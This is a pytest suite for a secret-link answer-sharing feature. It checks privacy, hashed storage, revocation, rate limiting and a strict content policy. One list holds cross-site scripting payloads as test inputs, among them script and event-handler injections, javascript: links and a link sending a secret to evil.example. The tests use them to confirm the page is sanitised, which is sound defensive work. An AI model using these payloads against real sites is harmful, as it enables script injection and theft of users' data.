"""A link shows one answer with the passages that it cites, to whoever has it, and nothing else; it is dead once it should be."""

from __future__ import annotations

import asyncio
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from citewell.features.shared_answers.page import PAGE_HEADERS, answer_page, problem_page
from citewell.storage.database import Database
from citewell.types.sharing import ShownAnswer, ShownPassage
from tests.accounts.people import Browser, signed_up
from tests.server.in_process import InProcessServer
from tests.server.running import Server

pytestmark = pytest.mark.slow(20)
QUESTION = "How many limes does the recipe of the harbour inn need?"
RECIPE = (
    b"The recipe of the harbour inn needs seven limes and a spoon of smoked salt.\n\n"
    b"The safe of the harbour inn opens with nineteen pelicans.\n"
)


@dataclass
class Ada:
    """Somebody with a file and an answer about it."""

    browser: Browser
    file: str
    answer: dict[str, Any]

    def share(self, **body: Any) -> httpx.Response:
        return self.browser.call(
            "POST", f"/threads/{self.answer['thread_id']}/messages/{self.answer['message_id']}/share", json=body
        )


def asked(server: Server, email: str) -> Ada:
    browser = signed_up(server.url, email)
    made = browser.call(
        "POST", "/ingest", files={"file": ("recipe.txt", RECIPE)}, data={"metadata": json.dumps({"shelf": "cellar"})}
    ).json()
    browser.get(f"/resources/{made['id']}/events")
    answer = browser.call("POST", "/chat", json={"message": QUESTION}).json()
    assert answer["citations"], answer
    return Ada(browser, made["id"], answer)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("shares")
    with InProcessServer(folder / "data", CITEWELL_ACCOUNTS="on", CITEWELL_SIGN_UP="open") as running:
        signed_up(running.url, "administrator@example.org")
        yield running


def opened(server: Server, path: str, address: str = "") -> list[httpx.Response]:
    """The page and its JSON, as a stranger sees them; the server trusts a proxy on its machine to say from where."""
    headers = {"X-Forwarded-For": address} if address else {}
    secret = path.rpartition("/")[2]
    return [httpx.get(server.url + at, headers=headers, timeout=60) for at in (path, f"/shared-answers/{secret}")]


def test_a_link_shows_the_answer_with_its_passages_and_nothing_else(server: Server) -> None:
    ada = asked(server, "ada@example.org")
    made = ada.share()
    assert made.status_code == 201, made.text
    page, data = opened(server, made.json()["path"], "192.0.2.1")
    assert page.status_code == data.status_code == 200
    shown = data.json()
    assert set(shown) == {"answer", "passages", "answered_at", "expires_at"}
    assert shown["answer"] == ada.answer["answer"]
    assert [set(one) for one in shown["passages"]] == [{"n", "label", "quote", "verdict"}] * len(shown["passages"])
    assert "seven limes" in page.text
    kept = (ada.file, ada.answer["thread_id"], ada.answer["message_id"], ada.browser.owner, made.json()["id"])
    for response in (page, data):
        assert "noindex" in response.headers["x-robots-tag"]
        assert response.headers["cache-control"] == "no-store"
        assert not response.headers.get_list("set-cookie")
        for secret in (*kept, *(one["chunk_id"] for one in ada.answer["citations"])):
            assert secret not in response.text
        for word in ("pelicans", "cellar", "ada@example.org", QUESTION):
            assert word not in response.text


@pytest.mark.full
def test_a_link_is_shown_once_and_kept_as_a_hash(server: Server) -> None:
    ada = asked(server, "once@example.org")
    made = ada.share(days=3).json()
    listed = ada.browser.get("/shares").json()["shares"]
    assert listed == [{name: value for name, value in made.items() if name != "path"}]
    archive = zipfile.ZipFile(io.BytesIO(ada.browser.get("/export").content))
    rows = archive.read("tables/shared_answers.ndjson").decode()
    assert made["id"] in rows
    assert "hash" not in rows
    secret = made["path"].rpartition("/")[2].encode()
    assert all(secret not in path.read_bytes() for path in server.data.rglob("*.db*"))


@pytest.mark.full
def test_a_link_that_was_ended_is_dead_at_once_and_another_cannot_end_it(server: Server) -> None:
    ada, ben = asked(server, "end@example.org"), signed_up(server.url, "ben@example.org")
    made = ada.share().json()
    assert ben.call("DELETE", f"/shares/{made['id']}").status_code == 404
    address = f"/threads/{ada.answer['thread_id']}/messages/{ada.answer['message_id']}/share"
    assert ben.call("POST", address, json={}).status_code == 404
    assert ben.get("/shares").json() == {"shares": []}
    assert ada.browser.call("DELETE", f"/shares/{made['id']}").status_code == 204
    assert [one.status_code for one in opened(server, made["path"], "192.0.2.2")] == [404, 404]


@pytest.mark.full
@pytest.mark.parametrize("way", ["file", "thread", "message", "erasure", "suspension", "expiry"])
def test_a_link_ends_with_what_it_shows_and_with_its_owner(server: Server, way: str) -> None:
    ada = asked(server, f"{way}@example.org")
    path = ada.share().json()["path"]
    assert [one.status_code for one in opened(server, path, "192.0.2.3")] == [200, 200]
    thread = f"/threads/{ada.answer['thread_id']}"
    if way == "file":
        ada.browser.call("DELETE", f"/resources/{ada.file}")
    elif way == "thread":
        ada.browser.call("DELETE", thread)
    elif way == "message":
        ada.browser.call("DELETE", f"{thread}/messages/{ada.answer['message_id']}")
    elif way == "erasure":
        receipt = ada.browser.call("POST", "/erasure", json={"confirm": "erase everything"}).json()
        assert {"place": "table shared_answers", "before": 1, "after": 0} in receipt["removed"]
    elif way == "suspension":
        administrator = Browser(server.url)
        administrator.sign_in("administrator@example.org")
        person = ada.browser.get("/account").json()["id"]
        administrator.call("PATCH", f"/people/{person}", json={"state": "suspended"})
    else:
        asyncio.run(_expire(server.data / "citewell.db"))
    page, data = opened(server, path, "192.0.2.4")
    unknown, nothing = opened(server, "/shared/there-never-was-one", "192.0.2.4")
    assert (page.status_code, page.text) == (unknown.status_code, unknown.text) == (404, unknown.text)
    assert data.json() == nothing.json()


async def _expire(path: Path) -> None:
    database = Database(f"sqlite+aiosqlite:///{path}")
    async with database.write() as connection:
        await connection.exec_driver_sql("UPDATE shared_answers SET expires_at = 1")
    await database.close()


@pytest.mark.full
def test_an_answer_without_sources_is_not_shared(server: Server) -> None:
    browser = signed_up(server.url, "nothing@example.org")
    answer = browser.call("POST", "/chat", json={"message": QUESTION}).json()
    refused = Ada(browser, "", answer).share()
    assert (refused.status_code, refused.json()["error"]["code"]) == (409, "conflict")
    assert Ada(browser, "", answer).share(days=366).status_code == 422


@pytest.mark.full
def test_an_address_that_opens_too_many_is_told_to_wait_and_others_are_not(server: Server) -> None:
    ada = asked(server, "often@example.org")
    path = ada.share().json()["path"]
    statuses = [opened(server, "/shared/guess", "198.51.100.7")[0] for _ in range(31)]
    assert [one.status_code for one in statuses[:30]] == [404] * 30
    assert statuses[30].status_code == 429
    assert 1 <= int(statuses[30].headers["retry-after"]) <= 60
    assert [one.status_code for one in opened(server, path, "198.51.100.8")] == [200, 200]


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![a](https://evil.example/x?secret)",
    "[click](javascript:alert(1))",
    "[click](https://evil.example)",
    "<https://evil.example>",
    "https://evil.example",
    "[ref]\n\n[ref]: https://evil.example",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</main></body><iframe src=//evil.example>",
    '"><svg/onload=alert(1)>',
    "`<b onclick=x>`",
    "<style>@import '//evil.example'</style>",
    "| a |\n|---|\n| <img src=//evil.example> |",
    "[1](javascript:alert(1))",
    "<a href='#' [1] onclick=alert(1)>",
]


@pytest.mark.full
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_a_hostile_answer_or_passage_becomes_an_element(text: str) -> None:
    passage = ShownPassage(n=1, label=text, quote=text, verdict="supported")
    page = answer_page(ShownAnswer(text=f"{text} [1]", passages=(passage,), answered_at=0.0, expires_at=1.0))
    elements = list(_elements(page + problem_page(text)))
    assert [name for name, _ in elements].count("style") == 2
    found = set(elements)
    allowed = {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "h1",
        "h2",
        "main",
        "p",
        "ol",
        "li",
        "strong",
        "blockquote",
    }
    allowed |= {"footer", "a", "code", "table", "thead", "tbody", "tr", "th", "td", "hr", "em", "pre"}
    assert {name for name, _ in found} <= allowed
    attributes = {(name, value) for _, given in found for name, value in given}
    assert {name for name, _ in attributes} <= {"lang", "charset", "name", "content", "href", "id"}
    assert all(value == "#source-1" for name, value in attributes if name == "href")


@pytest.mark.full
def test_the_policy_of_the_page_lets_nothing_run_or_load() -> None:
    policy = PAGE_HEADERS["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "sandbox" in policy
    assert "script-src" not in policy
    assert "unsafe" not in policy


def _elements(page: str) -> Iterator[tuple[str, tuple[tuple[str, str | None], ...]]]:
    from html.parser import HTMLParser

    found: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, tuple(attrs)))

    Reader().feed(page)
    yield from found
